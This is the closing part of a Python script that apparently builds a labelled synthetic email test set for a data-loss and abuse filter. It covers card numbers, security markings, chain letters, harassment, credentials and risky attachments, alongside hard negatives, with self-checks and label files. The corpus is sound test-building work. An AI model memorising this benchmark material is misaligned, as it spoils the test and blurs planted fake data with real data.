        "The new starter is {a}, desk 3.{k2}, extension {ext}. Laptop asset tag {tag}.",
    ]).format(d=r.randint(1, 28), m=r.choice(MONTHS), amt=money(r), k=r.randint(5, 400), k2=r.randint(1, 40),
              a=r.choice(FIRST), b=r.choice(FIRST), city=r.choice(CITIES), nps=r.randint(-20, 80), ext=r.randint(2000, 7999),
              tag="LT-%06d" % r.randint(0, 999999))
    return neg_spec("neg_general_business", frm, to, r.choice(["Agenda", "Minutes", "Travel", "Quarterly numbers", "New starter"]),
                    compose(r, frm, to, core))


def fam_neg_reply_thread(ctx):
    """A reply thread with quoted text, several numbers, and a forward request; nothing reportable."""
    r = ctx.rng
    frm, to = ctx.pair()
    orig = "Hi %s,\n\nCould you send the PO number for the %s order? Their reference is %s.\n\nThanks,\n%s" % (
        frm["first"], r.choice(VENDORS), grp(luhn_fail_number(r, r.choice(["4", "5"]), 16)), to["first"])
    core = "It's PO %d. Happy for you to forward this to their accounts team." % r.randint(4500000000, 4599999999)
    return neg_spec("neg_reply_thread", frm, to, "Re: PO number", compose(r, frm, to, core, quote=quote_block(r, to, dtext(r), orig)),
                    reply=True)


# --------------------------------------------------------------------------------------------
# plan, self-check, main
# --------------------------------------------------------------------------------------------

def H(sub):
    f = lambda ctx: fam_harass(ctx, sub)
    f.__name__ = "fam_harass_" + sub
    return f


PLAN = [
    # pci (44)
    (fam_pci_inline, 8), (fam_pci_block, 6), (fam_pci_table, 4), (fam_pci_html_split, 6), (fam_pci_qp, 4),
    (fam_pci_subject, 3), (fam_pci_reply, 4), (fam_pci_forward, 3), (fam_pci_multi, 2), (fam_pci_bare, 3),
    # classification (40)
    (fam_cls_banner, 9), (fam_cls_para, 7), (fam_cls_phi, 4), (fam_cls_priv, 3), (fam_cls_subject, 6),
    (fam_cls_header, 6), (fam_cls_html, 5),
    # chain letters (31)
    (fam_chain, 25), (fam_chain_office, 6),
    # harassment (37)
    (H("insult"), 6), (H("profanity"), 6), (H("obfuscated"), 7), (H("threat"), 7), (H("sexual"), 5), (H("slur"), 4),
    (fam_harass_subject, 2),
    # credentials (38)
    (fam_cred_password, 9), (fam_cred_conn, 6), (fam_cred_aws, 4), (fam_cred_pem, 4), (fam_cred_token, 7),
    (fam_cred_pin, 4), (fam_cred_wifi, 2), (fam_cred_subject, 2),
    # dangerous attachments (20)
    (fam_attach, 20),
    # two categories (14)
    (fam_combo_pci_cls, 3), (fam_combo_cred_cls, 3), (fam_combo_har_cred, 2), (fam_combo_pci_cred, 2),
    (fam_combo_att_cls, 2), (fam_combo_chain_har, 2),
    # hard negatives (146)
    (fam_neg_order, 9), (fam_neg_luhn_noiin, 5), (fam_neg_phone, 7), (fam_neg_tracking, 6), (fam_neg_iban, 6),
    (fam_neg_isbn, 3), (fam_neg_ids, 6), (fam_neg_masked, 5), (fam_neg_conf_prose, 12), (fam_neg_footer, 9),
    (fam_neg_public_label, 5), (fam_neg_scunthorpe, 15), (fam_neg_forward, 7), (fam_neg_password_policy, 11),
    (fam_neg_tech, 7), (fam_neg_blunt, 8), (fam_neg_quote, 6), (fam_neg_attach, 10), (fam_neg_general, 6),
    (fam_neg_reply_thread, 3),
]

# Written after PLAN's messages from a random stream of their own, so that adding to it leaves
# every message of PLAN as it was: payment gateways' test cards of many networks and card
# numbers of unusual lengths, beside other numbers that pass Luhn in card ranges.
PLAN_NUMBERS = [
    # pci (13)
    (fam_pci_gateway, 8), (fam_pci_unusual, 5),
    # hard negatives (17)
    (fam_neg_imei, 6), (fam_neg_company, 6), (fam_neg_national_id, 5),
]

# Also from a stream of their own (SEED + 2), written after PLAN_NUMBERS's messages: chain
# letters in the forms without luck, markings later in the Subject, government and
# sharing markings, and the texts and notes that look like them.
PLAN_MARKINGS = [
    (fam_chain_hoax, 12), (fam_cls_subject_trail, 6), (fam_cls_gov, 6),
    (fam_neg_chain_talk, 8), (fam_neg_forward_more, 5), (fam_neg_conf_more, 5),
]

# Also from a stream of their own (SEED + 3), written after PLAN_MARKINGS's messages.
PLAN_LATE = [
    # credentials (29): plain-word passwords, vendor token formats; placeholders (clean)
    (fam_cred_plainword, 8), (fam_cred_vendor, 12), (fam_cred_placeholders, 9),
]

def HM(sub):
    f = lambda ctx: fam_harass_more(ctx, sub)
    f.__name__ = "fam_harass_" + sub
    return f


# Also from a stream of their own (SEED_EXTRA), written after PLAN_LATE's messages.
SEED_EXTRA = 731_2026
PLAN_EXTRA = [
    # harassment (20): slurs, dialect and internet spellings, veiled threats, quid pro quo
    (HM("slur_more"), 5), (HM("dialect"), 6), (HM("veiled"), 5), (HM("quid"), 4),
    # hard negatives (10): swear words and slurs in their innocent senses
    (fam_neg_innocent_sense, 10),
]

CATS = ["pci", "classification", "chain_letter", "harassment", "credentials", "attachment"]
_RUN = re.compile(r"\d(?:[ \t\-./\u00a0]?\d)*")


def card_numbers_in(text):
    """Card-like numbers: whole separator-joined digit runs, and sub-runs cut at group boundaries."""
    found = set()
    for m in _RUN.finditer(text):
        s = m.group()
        groups = re.split(r"[ \t\-./\u00a0]", s)
        whole = "".join(groups)
        if card_like(whole):
            found.add(whole)
            continue
        for i in range(len(groups)):
            acc = ""
            for j in range(i, len(groups)):
                acc += groups[j]
                if len(acc) > 19:
                    break
                if (i, j) != (0, len(groups) - 1) and card_like(acc):
                    found.add(acc)
    return found


def html_to_text(h):
    h = re.sub(r"(?is)<(style|script|head)\b.*?</\1>", " ", h)
    h = re.sub(r"(?s)<!--.*?-->", "", h)
    h = re.sub(r"(?i)<(br|/p|/div|/tr|/td|/th|/li|/blockquote|/table|p|div|tr|table)\b[^>]*>", "\n", h)
    h = re.sub(r"<[^>]+>", "", h)
    return htmlmod.unescape(h)


def norm(s):
    s = "".join(PUNCT.get(c, c) for c in s)
    s = fold_ascii(s)
    return re.sub(r"\s+", " ", s).strip().lower()


def decoded_texts(raw):
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    defects = list(msg.defects)
    hdrs = []
    for k, v in msg.items():
        hdrs.append(str(v))
    texts = []
    for part in msg.walk():
        defects += list(part.defects)
        if part.is_multipart():
            continue
        if part.get_content_maintype() == "text":
            c = part.get_content()
            texts.append(html_to_text(c) if part.get_content_subtype() == "html" else c)
    return msg, hdrs, texts, defects


def self_check(raw, sp):
    msg, hdrs, texts, defects = decoded_texts(raw)
    if defects:
        return False, "defects %r" % defects
    cards = set()
    for t in hdrs + texts:
        cards |= card_numbers_in(t)
    cards -= set(sp.get("decoys") or ())  # card-like numbers a hard negative holds on purpose
    if cards != set(sp["pans"]):
        return False, "cards %r != pans %r" % (cards, sp["pans"])
    hay = norm(" ".join(hdrs + texts))
    for src in (sp["text"], sp.get("html") or "", sp["subject"]):
        for t, pay in segments(src):
            if pay and norm(html_to_text(t) if src is sp.get("html") else t) not in hay:
                return False, "payload not found: %r" % t[:60]
    return True, ""


def apply_overrides(rng, car, sp):
    ov = sp.get("car") or {}
    for k, opts in ov.items():
        car[k] = rng.choice(opts)
    if "charset" in ov and "cte" not in ov:
        car["cte"] = pick_cte(rng, car["charset"])
    if car["charset"] == "utf-16":
        car["cte"] = car["cte_html"] = "base64"
    if car["layout"] != "alt":
        car["stub"] = False
    if car["charset"] == "us-ascii":
        car["decor"] = False
    return car


def main():
    rng = random.Random(SEED)
    ctx = Ctx(rng)
    items = []
    for fn, n in PLAN:
        items += [fn] * n
    rng.shuffle(items)
    rng2 = random.Random(SEED + 1)
    more = []
    for fn, n in PLAN_NUMBERS:
        more += [fn] * n
    rng2.shuffle(more)
    rng3 = random.Random(SEED + 2)
    marks = []
    for fn, n in PLAN_MARKINGS:
        marks += [fn] * n
    rng3.shuffle(marks)
    rng4 = random.Random(SEED + 3)
    late = [fn for fn, n in PLAN_LATE for _ in range(n)]
    rng4.shuffle(late)
    rng_extra = random.Random(SEED_EXTRA)
    extra = []
    for fn, n in PLAN_EXTRA:
        extra += [fn] * n
    rng_extra.shuffle(extra)
    jobs = ([(fn, ctx, rng) for fn in items] + [(fn, Ctx(rng2), rng2) for fn in more]
            + [(fn, Ctx(rng3), rng3) for fn in marks] + [(fn, Ctx(rng4), rng4) for fn in late]
            + [(fn, Ctx(rng_extra), rng_extra) for fn in extra])
    os.makedirs(MSGDIR, exist_ok=True)
    for f in os.listdir(MSGDIR):
        if f.endswith(".eml"):
            os.remove(os.path.join(MSGDIR, f))
    labels, meta, fams, retries, payloads = {}, {}, {}, 0, {}
    for i, (fn, fctx, frng) in enumerate(jobs, 1):
        for attempt in range(200):
            sp = fn(fctx)
            car = apply_overrides(frng, choose_carriage(frng), sp)
            raw, enc = build_message(frng, sp, car)
            ok, why = self_check(raw, sp)
            if ok:
                break
            retries += 1
            if attempt > 150:
                print("retrying %s: %s" % (sp["family"], why), file=sys.stderr)
        else:
            raise SystemExit("could not build a clean %s" % fn.__name__)
        name = "%04d.eml" % i
        with open(os.path.join(MSGDIR, name), "wb") as fh:
            fh.write(raw)
        vias = {c: via_of(loc, car) for c, loc in sp["labels"].items()}
        cats = [c for c in CATS if c in sp["labels"]]
        labels[name] = cats
        meta[name] = {"encoding": enc, "family": sp["family"], "pans": sp["pans"],
                      "via": vias[cats[0]] if cats else None, "vias": vias}
        fams[sp["family"]] = fams.get(sp["family"], 0) + 1
        pl = []
        for src, where in ((sp["subject"], "subject"), (sp["text"], "text"), (sp.get("html") or "", "html")):
            for t, pay in segments(src):
                if pay and t.strip() and where != "html":
                    flat = unmark(src)
                    i = flat.find(t)
                    a = flat.rfind("\n", 0, i) + 1
                    b = flat.find("\n", i + len(t))
                    line = flat[a:b if b >= 0 else len(flat)] if "\n" not in t else t
                    item = ("[%s] " % where) + re.sub(r"\s+", " ", line.strip())[:170]
                    if item not in pl:
                        pl.append(item)
        for k, v in sp.get("extra_headers") or []:
            pl.append("[header] %s: %s" % (k, re.sub(r"\s+", " ", v)[:160]))
        for a in sp.get("attachments") or []:
            pl.append("[attachment] %s (%s, %d bytes, starts %r)" % (a["filename"], a["ctype"], len(a["data"]), a["data"][:4]))
        payloads[name] = pl
    with open(os.path.join(HERE, "labels.json"), "w") as fh:
        json.dump(labels, fh, indent=1, sort_keys=True)
    with open(os.path.join(HERE, "meta.json"), "w") as fh:
        json.dump(meta, fh, indent=1, sort_keys=True)
    with open(os.path.join(HERE, "payloads.json"), "w") as fh:
        json.dump(payloads, fh, indent=1, sort_keys=True, ensure_ascii=False)
    per_cat = {c: sum(1 for v in labels.values() if c in v) for c in CATS}
    print("messages %d, clean %d, retries %d" % (len(labels), sum(1 for v in labels.values() if not v), retries))
    print("per category:", json.dumps(per_cat))
    for k in sorted(fams):
        print("  %-45s %3d" % (k, fams[k]))


if __name__ == "__main__":
    main()
